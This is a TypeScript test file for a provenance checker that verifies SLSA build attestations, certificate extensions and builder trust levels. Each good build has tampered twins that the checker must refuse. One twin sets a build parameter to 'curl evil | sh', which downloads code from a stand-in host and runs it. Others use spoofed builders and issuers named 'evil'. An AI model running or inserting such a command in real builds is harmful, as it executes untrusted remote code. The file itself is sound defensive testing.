/** Provenance held against expectations: the good case of each form, and a twin for everything that may differ. */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Value, ValueObject } from "../../base/index.ts";
import type { BuildSigner } from "./build-check.ts";
import { readBuildClaims } from "./build-claims.ts";
import type { TrustedBuilder } from "./builder-list.ts";
import { type BuildExpectations, type BuildVerdict, judgeBuild } from "./judge-build.ts";
import { believedBuilders, GITHUB_ISSUER, KNOWN_BUILDERS, unlistedBuilders } from "./known-builders.ts";
import type { Provenance } from "./provenance.ts";
import { decodeVersionedProvenance } from "./slsa-old.ts";

const REPOSITORY = "https://github.com/acme/shop";
const COMMIT = "0123456789abcdef0123456789abcdef01234567";
const OTHER_COMMIT = "f123456789abcdef0123456789abcdef01234567";
const WORKFLOW = ".github/workflows/release.yml";
const GENERATOR =
  "https://github.com/slsa-framework/slsa-github-generator/.github/workflows/builder_go_slsa3.yml@refs/tags/v2.1.0";
const HOSTED = "https://github.com/actions/runner/github-hosted";

type Certificate = BuildSigner & { readonly kind: "certificate" };

const certificate = (subject: string, ref = "refs/tags/v1.2.3"): Certificate => ({
  kind: "certificate",
  name: subject,
  subject,
  issuer: GITHUB_ISSUER,
  extensions: {
    githubWorkflowRepository: "acme/shop",
    githubWorkflowSHA: COMMIT,
    githubWorkflowRef: ref,
    githubWorkflowTrigger: "push",
    runnerEnvironment: "github-hosted",
    sourceRepositoryURI: REPOSITORY,
    sourceRepositoryDigest: COMMIT,
    sourceRepositoryRef: ref,
    buildTrigger: "push",
    buildConfigURI: `${REPOSITORY}/${WORKFLOW}@${ref}`,
    runInvocationURI: `${REPOSITORY}/actions/runs/7/attempts/1`,
  },
});

/** slsa-github-generator's Go builder, provenance 0.2. */
const generated = (more: ValueObject = {}, environment: ValueObject = {}): Provenance =>
  decode("https://slsa.dev/provenance/v0.2", {
    builder: { id: GENERATOR },
    buildType: "https://github.com/slsa-framework/slsa-github-generator/go@v1",
    invocation: {
      configSource: {
        uri: "git+https://github.com/acme/shop@refs/tags/v1.2.3",
        digest: { sha1: COMMIT },
        entryPoint: WORKFLOW,
      },
      environment: {
        github_ref: "refs/tags/v1.2.3",
        github_event_name: "push",
        github_event_payload: { base_ref: "refs/heads/main", inputs: { channel: "stable", count: 3, dry: false } },
        ...environment,
      },
    },
    metadata: { buildInvocationID: "7-1" },
    materials: [{ uri: "git+https://github.com/acme/shop@refs/tags/v1.2.3", digest: { sha1: COMMIT } }],
    ...more,
  });

/** GitHub's own attestation, provenance 1. */
const workflow = (external: ValueObject = {}, builderId = HOSTED): Provenance =>
  decode("https://slsa.dev/provenance/v1", {
    buildDefinition: {
      buildType: "https://actions.github.io/buildtypes/workflow/v1",
      externalParameters: {
        workflow: { ref: "refs/tags/v1.2.3", repository: REPOSITORY, path: WORKFLOW },
        ...external,
      },
      internalParameters: { github: { event_name: "push" } },
      resolvedDependencies: [{ uri: `git+${REPOSITORY}@refs/tags/v1.2.3`, digest: { gitCommit: COMMIT } }],
    },
    runDetails: {
      builder: { id: builderId },
      metadata: { invocationId: `${REPOSITORY}/actions/runs/7/attempts/1` },
    },
  });

function decode(type: string, predicate: Value): Provenance {
  const decoded = decodeVersionedProvenance(type, predicate);
  assert.ok(decoded.ok, JSON.stringify(decoded));
  return decoded.value.provenance;
}

const WORKFLOW_SIGNER = certificate(`${REPOSITORY}/${WORKFLOW}@refs/tags/v1.2.3`);
const EXPECTED: BuildExpectations = { sourceUri: "github.com/acme/shop" };

function judge(
  provenance: Provenance,
  signer: BuildSigner,
  expected: Partial<BuildExpectations> = {},
  builders: readonly TrustedBuilder[] = KNOWN_BUILDERS.builders,
): BuildVerdict {
  return judgeBuild({ claims: readBuildClaims(provenance), signer }, builders, { ...EXPECTED, ...expected });
}

const failed = ({ checks }: BuildVerdict): readonly string[] =>
  checks.filter(({ passed }) => !passed).map(({ name }) => name);

describe("the expected build", () => {
  const rows: readonly (readonly [string, BuildVerdict, number])[] = [
    ["of a listed builder is its level", judge(generated(), certificate(GENERATOR)), 3],
    ["of a hosted runner, signed by the workflow", judge(workflow(), WORKFLOW_SIGNER), 2],
    ["with its tag", judge(generated(), certificate(GENERATOR), { tag: "v1.2.3" }), 3],
    ["with its version", judge(generated(), certificate(GENERATOR), { versionedTag: "v1.2" }), 3],
    ["with the branch of its tag", judge(generated(), certificate(GENERATOR), { branch: "main" }), 3],
    ["with its builder", judge(generated(), certificate(GENERATOR), { builderId: GENERATOR }), 3],
    [
      "with its builder, whatever its version",
      judge(generated(), certificate(GENERATOR), { builderId: GENERATOR.split("@")[0] ?? "" }),
      3,
    ],
    ["with an input", judge(generated(), certificate(GENERATOR), { inputs: { channel: "stable" } }), 3],
    [
      "with all inputs, of other kinds too",
      judge(generated(), certificate(GENERATOR), {
        inputs: { channel: "stable", count: "3", dry: "false" },
        exactInputs: true,
      }),
      3,
    ],
    ["with a level", judge(generated(), certificate(GENERATOR), { level: 3 }), 3],
    [
      "of an unlisted builder is level 1",
      judge(workflow({}, GENERATOR), certificate(GENERATOR), {}, unlistedBuilders(GENERATOR)),
      1,
    ],
    [
      "signed by whom the caller trusts is level 1",
      judge(
        workflow({}, "urn:b"),
        { kind: "key", name: "k" },
        {},
        unlistedBuilders("urn:b", [{ kind: "anyone-trusted" }]),
      ),
      1,
    ],
  ];
  for (const [name, verdict, level] of rows) {
    test(name, () => {
      assert.deepEqual(failed(verdict), []);
      assert.deepEqual([verdict.accepted, verdict.level.level], [true, level]);
    });
  }
});

describe("another build", () => {
  const extension = (name: string, value: string): BuildSigner => {
    const good = certificate(GENERATOR);
    return { ...good, extensions: { ...good.extensions, [name]: value } };
  };
  const rows: readonly (readonly [string, BuildVerdict, readonly string[]])[] = [
    ["source", judge(generated(), certificate(GENERATOR), { sourceUri: "github.com/acme/shopp" }), ["source"]],
    [
      "case of the source",
      judge(generated(), certificate(GENERATOR), { sourceUri: "github.com/Acme/shop" }),
      ["source"],
    ],
    [
      "host of the source",
      judge(generated(), certificate(GENERATOR), { sourceUri: "gitlab.com/acme/shop" }),
      ["source"],
    ],
    ["branch", judge(generated(), certificate(GENERATOR), { branch: "dev" }), ["branch"]],
    [
      "branch, where the platform names none for a tag",
      judge(generated({}, { github_event_payload: {} }), certificate(GENERATOR), { branch: "main" }),
      ["branch"],
    ],
    [
      "branch that a workflow says its own tag was made from, by a platform's build type",
      judge(generated({ builder: { id: HOSTED } }), WORKFLOW_SIGNER, { branch: "main" }),
      ["branch"],
    ],
    [
      "the same, of a builder that is named",
      judge(
        generated({ builder: { id: WORKFLOW_SIGNER.subject } }),
        WORKFLOW_SIGNER,
        { branch: "main" },
        unlistedBuilders(WORKFLOW_SIGNER.subject),
      ),
      ["branch"],
    ],
    ["tag", judge(generated(), certificate(GENERATOR), { tag: "v1.2" }), ["tag"]],
    ["version", judge(generated(), certificate(GENERATOR), { versionedTag: "v1.3" }), ["versioned tag"]],
    [
      "tag, where a branch was built",
      judge(
        generated({
          invocation: { configSource: { uri: `git+${REPOSITORY}@refs/heads/v1.2.3`, digest: { sha1: COMMIT } } },
          materials: [{ uri: `git+${REPOSITORY}@refs/heads/v1.2.3`, digest: { sha1: COMMIT } }],
        }),
        certificate(GENERATOR, "refs/heads/v1.2.3"),
        { tag: "v1.2.3" },
      ),
      ["tag"],
    ],
    ["input", judge(generated(), certificate(GENERATOR), { inputs: { channel: "beta" } }), ["input channel"]],
    ["missing input", judge(generated(), certificate(GENERATOR), { inputs: { other: "x" } }), ["input other"]],
    [
      "inputs beside",
      judge(generated(), certificate(GENERATOR), { inputs: { dry: "false" }, exactInputs: true }),
      ["inputs"],
    ],
    ["builder id", judge(generated(), certificate(GENERATOR), { builderId: `${GENERATOR}x` }), ["builder id"]],
    ["level", judge(workflow(), WORKFLOW_SIGNER, { level: 3 }), ["level"]],
    ["builder", judge(generated({ builder: { id: "urn:evil" } }), certificate(GENERATOR)), ["builder"]],
    [
      "builder whose name begins as one of the list",
      judge(generated({ builder: { id: `${GENERATOR}.evil` } }), certificate(GENERATOR)),
      ["signer"],
    ],
    [
      "reference of a listed builder: a branch anybody can push",
      judge(
        generated({ builder: { id: GENERATOR.replace("tags/v2.1.0", "heads/main") } }),
        certificate(GENERATOR.replace("tags/v2.1.0", "heads/main")),
      ),
      ["builder"],
    ],
    [
      "signer: builder X named, Y signs",
      judge(generated(), certificate("https://github.com/evil/x/.github/workflows/a.yml@refs/tags/v2.1.0")),
      ["signer"],
    ],
    ["issuer", judge(generated(), { ...certificate(GENERATOR), issuer: "https://issuer.evil.example" }), ["signer"]],
    ["signer, a key that is trusted for something else", judge(generated(), { kind: "key", name: "k" }), ["signer"]],
    [
      "workflow that signs for a hosted runner",
      judge(workflow(), certificate(`${REPOSITORY}/.github/workflows/other.yml@refs/tags/v1.2.3`)),
      ["signer"],
    ],
    [
      "runner: its own machine, not a hosted one",
      judge(workflow(), {
        ...WORKFLOW_SIGNER,
        extensions: { ...WORKFLOW_SIGNER.extensions, runnerEnvironment: "self-hosted" },
      }),
      ["signer", "certificate: runner"],
    ],
    ["runner of a listed builder", judge(generated(), extension("runnerEnvironment", "self-hosted")), ["signer"]],
    [
      "build type",
      judge(generated({ buildType: "urn:unknown" }), certificate(GENERATOR)),
      ["build type", "parameters", "source", "source dependency"],
    ],
    [
      "build type than the builder may state",
      judge(generated(), certificate(GENERATOR), {}, [
        { id: GENERATOR, highestLevel: 3, buildTypes: ["urn:a"], signers: [{ kind: "anyone-trusted" }] },
      ]),
      ["build type"],
    ],
    ["parameter", judge(workflow({ command: "curl evil | sh" }), WORKFLOW_SIGNER), ["parameters"]],
    [
      "parameter inside a known one",
      judge(
        workflow({ workflow: { ref: "refs/tags/v1.2.3", repository: REPOSITORY, path: WORKFLOW, patch: 1 } }),
        WORKFLOW_SIGNER,
      ),
      ["parameters"],
    ],
    ["no dependency", judge(generated({ materials: [] }), certificate(GENERATOR)), ["source dependency"]],
    [
      "dependency without a commit",
      judge(
        generated({
          invocation: { configSource: { uri: `git+${REPOSITORY}` } },
          materials: [{ uri: `git+${REPOSITORY}` }],
        }),
        certificate(GENERATOR),
      ),
      ["source dependency"],
    ],
    [
      "dependency that is another commit than the source",
      judge(
        generated({ materials: [{ uri: `git+${REPOSITORY}`, digest: { sha1: OTHER_COMMIT } }] }),
        certificate(GENERATOR),
      ),
      ["parameters", "certificate: commit"],
    ],
    [
      "second dependency of the same repository",
      judge(
        generated({
          materials: [
            { uri: `git+${REPOSITORY}@refs/tags/v1.2.3`, digest: { sha1: COMMIT } },
            { uri: `git+${REPOSITORY}@refs/tags/v1.2.3`, digest: { sha1: OTHER_COMMIT } },
          ],
        }),
        certificate(GENERATOR),
      ),
      ["parameters"],
    ],
    [
      "second dependency of the same repository, and only it with a commit",
      judge(
        generated({
          materials: [{ uri: `git+${REPOSITORY}` }, { uri: `git+${REPOSITORY}`, digest: { sha1: OTHER_COMMIT } }],
        }),
        certificate(GENERATOR),
      ),
      ["parameters"],
    ],
    [
      "certificate: a repository",
      judge(generated(), extension("sourceRepositoryURI", `${REPOSITORY}2`)),
      ["certificate: repository"],
    ],
    [
      "certificate: an old repository",
      judge(generated(), extension("githubWorkflowRepository", "acme/x")),
      ["certificate: repository"],
    ],
    [
      "certificate: a commit",
      judge(generated(), extension("sourceRepositoryDigest", OTHER_COMMIT)),
      ["certificate: commit"],
    ],
    [
      "certificate: a tag that moved",
      judge(generated(), extension("githubWorkflowSHA", OTHER_COMMIT)),
      ["certificate: commit"],
    ],
    [
      "certificate: a reference",
      judge(generated(), extension("sourceRepositoryRef", "refs/heads/x")),
      ["certificate: ref"],
    ],
    ["certificate: a trigger", judge(generated(), extension("buildTrigger", "pull_request")), ["certificate: trigger"]],
    [
      "certificate: a workflow",
      judge(generated(), extension("buildConfigURI", `${REPOSITORY}/b.yml@x`)),
      ["certificate: workflow"],
    ],
    [
      "certificate: a run",
      judge(generated(), extension("runInvocationURI", `${REPOSITORY}/actions/runs/8/attempts/1`)),
      ["certificate: run"],
    ],
  ];
  for (const [name, verdict, expected] of rows) {
    test(`${name} is refused`, () => {
      assert.deepEqual(failed(verdict), expected);
      assert.equal(verdict.accepted, false);
      // A level that was only not reached is still told; what is not the expected build has none.
      if (name !== "level") assert.equal(verdict.level.level, 0);
    });
  }
});

describe("builders that are believed without a list", () => {
  test("are those that are known, and the one that is named where it is none of them", () => {
    const ids = (builderId?: string): number => believedBuilders(builderId).length;
    assert.equal(ids(), KNOWN_BUILDERS.builders.length);
    assert.ok(ids("https://github.com/acme/b/.github/workflows/b.yml") > ids());
    // A version of a known builder that anybody can push is not believed by being named.
    assert.equal(ids(GENERATOR.replace("tags/v2.1.0", "heads/main")), ids());
  });
});

describe("a level", () => {
  const why = ({ level }: BuildVerdict): readonly string[] =>
    level.requirements.filter(({ met }) => !met).map(({ level: of, why: reason }) => `L${of} ${reason}`);
  const job = (): Provenance =>
    decode("https://slsa.dev/provenance/v1", {
      buildDefinition: {
        buildType: "urn:amap:build-type:github-actions:v1",
        externalParameters: {
          source: { uri: `git+${REPOSITORY}`, ref: "refs/tags/v1.2.3" },
          workflow: { path: WORKFLOW },
        },
        resolvedDependencies: [{ uri: `git+${REPOSITORY}@refs/tags/v1.2.3`, digest: { gitCommit: COMMIT } }],
      },
      runDetails: { builder: { id: HOSTED } },
    });

  test("of what a job says of itself is 1, whatever the list says of its builder", () => {
    const builders: readonly TrustedBuilder[] = [
      { id: HOSTED, highestLevel: 3, signers: [{ kind: "anyone-trusted" }] },
    ];
    for (const signer of [WORKFLOW_SIGNER, { kind: "key", name: "k" } as const]) {
      const verdict = judge(job(), signer, {}, builders);
      assert.deepEqual([verdict.accepted, verdict.level.level], [true, 1]);
      assert.deepEqual(why(verdict), ["L2 the job wrote it about itself: level 1 at most"]);
    }
  });
  test("of what a step wrote is 1 where no certificate says the same", () => {
    const builders: readonly TrustedBuilder[] = [
      { id: HOSTED, highestLevel: 3, signers: [{ kind: "anyone-trusted" }] },
    ];
    const verdict = judge(workflow(), { kind: "key", name: "k" }, {}, builders);
    assert.equal(verdict.level.level, 1);
    assert.match(why(verdict).join("\n"), /^L2 a step of the build wrote it, and no certificate says the same/);
  });
  test("of a builder with a key of its own is what the list says", () => {
    const signers = [{ kind: "key", publicKeyPem: "PEM" }] as const;
    for (const highestLevel of [1, 2, 3] as const) {
      const builders = [{ id: GENERATOR, highestLevel, signers }];
      const key = { kind: "key", name: "k", publicKeyPems: ["PEM"] } as const;
      assert.equal(judge(generated(), key, {}, builders).level.level, highestLevel);
      assert.deepEqual(failed(judge(generated(), { ...key, publicKeyPems: ["OTHER"] }, {}, builders)), ["signer"]);
    }
  });
});
